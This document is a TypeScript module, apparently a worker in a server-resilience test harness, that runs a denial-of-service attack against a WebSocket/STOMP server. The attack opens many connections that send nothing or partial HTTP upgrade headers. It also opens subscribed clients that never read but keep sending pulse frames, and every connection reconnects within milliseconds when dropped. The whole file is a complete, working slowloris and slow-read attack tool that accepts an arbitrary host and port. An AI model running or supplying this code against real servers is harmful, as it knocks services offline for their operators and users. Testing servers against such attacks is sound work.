import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { serve } from '../rpc.js';
import { type ClientPlan, StompClient } from './stomp-client.js';
import { clientFrame, OPCODE } from './ws-frames.js';

export interface AttackRequest {
  host: string;
  port: number;
  path: string;
  /** Sockets that say nothing. */
  silent: number;
  /** Clients that subscribe and then read nothing. */
  deaf: ClientPlan[];
}

export interface AttackReply {
  /** How often a socket was cut, or refused, and opened again. */
  silentAgain: number;
  deafAgain: number;
  /** Share of one core that the attack has cost the attacker. */
  cpu: number;
}

const AGAIN_MS = 20;
const PULSE_MS = 1000;
const PULSE = clientFrame(OPCODE.text, Buffer.from('\n'));
const CONCURRENCY = 64;

let over = false;
let beganAt = 0;
let cpuAtBegin = process.cpuUsage();
const again = { silent: 0, deaf: 0 };
const sockets = new Set<Socket>();
const deaf = new Set<StompClient>();

/** What the silent ones say before they fall silent: nothing, half a head, or all that makes a WebSocket. */
function words({ host, port, path }: AttackRequest, index: number): string {
  const head = `GET ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n`;
  const rest = `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`;
  return ['', '', head, head + rest][index % 4] ?? '';
}

/** Resolves when it is open for the first time; from then on it comes back whenever it is cut. */
function keepSilent(request: AttackRequest, index: number): Promise<void> {
  return new Promise((resolve) => {
    const open = () => {
      if (over) return;
      const socket = connect(request.port, request.host);
      sockets.add(socket);
      socket.on('connect', () => {
        socket.write(words(request, index));
        resolve();
      });
      socket.resume();
      socket.on('error', () => {});
      socket.on('close', () => {
        sockets.delete(socket);
        if (over) return;
        again.silent++;
        setTimeout(open, AGAIN_MS);
      });
    };
    open();
  });
}

/** Reads nothing once it has subscribed, but says at every pulse that it is there; comes back when it is cut. */
async function keepDeaf(plan: ClientPlan, index: number): Promise<void> {
  const client = new StompClient(index, plan, { message() {}, read() {} });
  try {
    await client.open();
    client.stopReading();
    deaf.add(client);
  } catch {
    setTimeout(() => void comeBack(plan, index), PULSE_MS);
  }
}

async function comeBack(plan: ClientPlan, index: number): Promise<void> {
  if (over) return;
  again.deaf++;
  await keepDeaf(plan, index);
}

/** A socket that nobody reads does not see its end; writing to it does. */
setInterval(() => {
  for (const client of deaf) {
    if (client.write(PULSE)) continue;
    deaf.delete(client);
    void comeBack(client.plan, client.index);
  }
}, PULSE_MS);

async function begin(request: AttackRequest): Promise<void> {
  beganAt = performance.now();
  cpuAtBegin = process.cpuUsage();
  const tasks = [
    ...Array.from({ length: request.silent }, (_, index) => () => keepSilent(request, index)),
    ...request.deaf.map((plan, index) => () => keepDeaf(plan, index)),
  ];
  const lane = async () => {
    for (let task = tasks.pop(); task; task = tasks.pop()) await task();
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, lane));
}

function end(_: null): AttackReply {
  over = true;
  const usage = process.cpuUsage(cpuAtBegin);
  for (const socket of sockets) socket.destroy();
  for (const client of deaf) client.destroy();
  const cpu = (usage.user + usage.system) / 1000 / Math.max(1, performance.now() - beganAt);
  return { silentAgain: again.silent, deafAgain: again.deaf, cpu };
}

const api = { begin, end };
export type HostileApi = typeof api;
serve(api);
